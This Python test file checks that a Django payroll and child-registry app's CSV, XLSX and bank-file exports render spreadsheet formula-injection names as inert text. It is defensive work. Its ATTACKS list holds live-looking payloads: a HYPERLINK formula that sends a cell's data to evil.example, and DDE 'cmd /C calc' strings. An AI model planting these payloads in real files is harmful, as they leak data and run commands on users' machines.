"""Exports that cannot attack their reader (issue 11, part 3): a name that a spreadsheet would
evaluate — stored before names were checked, or arriving by another way — goes through every
export as text: an apostrophe in front in CSV (OWASP), a string cell in XLSX (never a formula),
read back literally by LibreOffice; real numbers stay numbers (a negative amount too)."""

from __future__ import annotations

import csv
import io
import json
from datetime import date

import pytest
from django.core.management import call_command
from django.urls import reverse

from huhang.benefits.payroll import bankfile, selectors
from huhang.benefits.payroll import services as payroll
from huhang.core import exports
from tests.factories.benefits import PayeeFactory
from tests.factories.registry import ChildFactory, PersonFactory
from tests.factories.screening import LeadFactory
from tests.files.office import calc_sheets, needs_soffice, workbook

ATTACKS = [
    '=HYPERLINK("http://evil.example/?"&C2,"点击")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _csv(data: bytes, codec: str = "utf-8") -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode(codec), newline="")))


def _strings_only(content: bytes, texts: list[str]) -> None:
    """Every cell holding one of `texts` is a string cell with exactly that text."""
    found = set()
    for sheet in workbook(content).worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (cell.coordinate, cell.value)
                # (openpyxl leaves a carriage return in its XML escape, as _x000D_)
                value = cell.value.replace("_x000D_", "\r") if isinstance(cell.value, str) else None
                if value in texts:
                    assert cell.data_type == "s"
                    found.add(value)
    assert found == set(texts)


@pytest.fixture
def hostile(tree, orgs):
    """Children whose names are attacks (written past the name check, as old data would be)."""
    return [
        ChildFactory(person=PersonFactory(name=name, years=9), division=tree["c1"])
        for name in ATTACKS
    ]


def test_children_csv_and_xlsx(users, hostile, login):
    client = login(users["bureau"])
    rows = _csv(client.get(reverse("registry:child_export")).content)
    names = {row[0] for row in rows[1:]}
    assert names >= {"'" + name for name in ATTACKS}
    assert not names & set(ATTACKS)
    content = client.get(reverse("registry:child_export_xlsx")).content
    _strings_only(content, ATTACKS)


def test_leads_csv_and_xlsx(tree, tmp_path):
    for i, name in enumerate(ATTACKS):
        LeadFactory(
            division=tree["c1"], kind="migrant", name=name, region_code=f"1502030050{i:02d}"
        )
    out = io.StringIO()
    call_command("leads", "--format", "csv", stdout=out)
    rows = list(csv.DictReader(io.StringIO(out.getvalue().lstrip("\ufeff"), newline="")))
    assert {row["name"] for row in rows} == {"'" + name for name in ATTACKS}
    path = tmp_path / "leads.xlsx"
    call_command("leads", "--format", "xlsx", "--out", str(path), stdout=io.StringIO())
    _strings_only(path.read_bytes(), ATTACKS)


@pytest.fixture
def hostile_run(users, bureau2, entitled, standards, children):
    PayeeFactory(child=children["xiaohai"], name=ATTACKS[0], valid_from=date(2026, 1, 1))
    PayeeFactory(child=children["c2"], name=ATTACKS[1], valid_from=date(2026, 1, 1))
    run = payroll.run_create(by=users["bureau"], programme=standards, month=date(2026, 3, 1))
    payroll.run_compute(by=users["bureau"], run=run, today=date(2026, 3, 1))
    return payroll.run_approve(by=bureau2, run=run)


def test_bank_files_and_payroll_workbook(users, hostile_run):
    data = bankfile.export_bytes(by=users["bureau"], run=hostile_run, fmt="csv", encoding="utf-8")
    payees = {row[1] for row in _csv(data, "utf-8-sig")[1:-1]}
    assert payees == {"'" + ATTACKS[0], "'" + ATTACKS[1]}
    xlsx = bankfile.export_bytes(by=users["bureau"], run=hostile_run, fmt="xlsx")
    _strings_only(xlsx, ATTACKS[:2])
    for template in ("icbc",):
        _strings_only(
            bankfile.export_bytes(
                by=users["bureau"], run=hostile_run, fmt="xlsx", template=template
            ),
            ATTACKS[:2],
        )
    out = io.BytesIO()
    exports.write_xlsx(out, selectors.run_lines_workbook(user=users["bureau"], run=hostile_run))
    _strings_only(out.getvalue(), ATTACKS[:2])


def test_audit_workbook(users, hostile, login):
    client = login(users["bureau"])
    client.get(reverse("workbench:child_detail", args=[hostile[0].pk]))
    content = client.get(reverse("core:audit_export")).content
    labels = [
        cell
        for row in workbook(content).active.iter_rows()
        for cell in row
        if isinstance(cell.value, str) and cell.value.startswith("=HYPERLINK")
    ]
    assert labels and all(cell.data_type == "s" for cell in labels)


def test_numbers_stay_numbers_and_text_is_neutralised():
    columns = [exports.Column("姓名"), exports.Column("金额", exports.FEN)]
    rows = [["=1+1", -550], ["-5", 550], ["王小海", None]]
    out = io.BytesIO()
    exports.write_csv(out, columns, rows)
    assert _csv(out.getvalue())[1:] == [["'=1+1", "-5.50"], ["'-5", "5.50"], ["王小海", ""]]
    book = io.BytesIO()
    exports.write_xlsx(book, [exports.Sheet("表", columns, rows)])
    sheet = workbook(book.getvalue()).active
    assert (sheet["A2"].value, sheet["A2"].data_type) == ("=1+1", "s")
    assert sheet["A2"].quotePrefix  # editing the cell keeps it text
    assert (sheet["B2"].value, sheet["B2"].data_type) == (-5.5, "n")


def test_an_amount_beyond_a_spreadsheet_numbers_digits_stays_exact():
    # 15 significant digits are a float's exact range: up to there a number, beyond it text.
    columns = [exports.Column("金额", exports.FEN)]
    largest, beyond = exports.EXACT_FEN - 1, 11999999999996664
    book = io.BytesIO()
    exports.write_xlsx(book, [exports.Sheet("表", columns, [[largest], [beyond], [-beyond]])])
    sheet = workbook(book.getvalue()).active
    assert (sheet["A2"].value, sheet["A2"].data_type) == (9999999999999.99, "n")
    assert bankfile.cell_fen(sheet["A2"].value) == largest
    assert (sheet["A3"].value, sheet["A3"].data_type) == ("119999999999966.64", "s")
    assert [bankfile.cell_fen(sheet[c].value) for c in ("A3", "A4")] == [beyond, -beyond]


@needs_soffice
def test_libreoffice_reads_the_attacks_as_text(users, hostile, login, tmp_path):
    content = login(users["bureau"]).get(reverse("registry:child_export_xlsx")).content
    calc = calc_sheets(content, tmp_path, "children")["儿童名单"]
    names = {row[0] for row in calc[2:]}
    assert names >= set(ATTACKS)  # literally, not evaluated (=1+1 would read 2)
    assert "2" not in names and not any(
        "evil" not in n and "cmd" not in n and n.startswith("=") for n in names if n in ATTACKS[:1]
    )
    assert json.dumps(sorted(names), ensure_ascii=False)
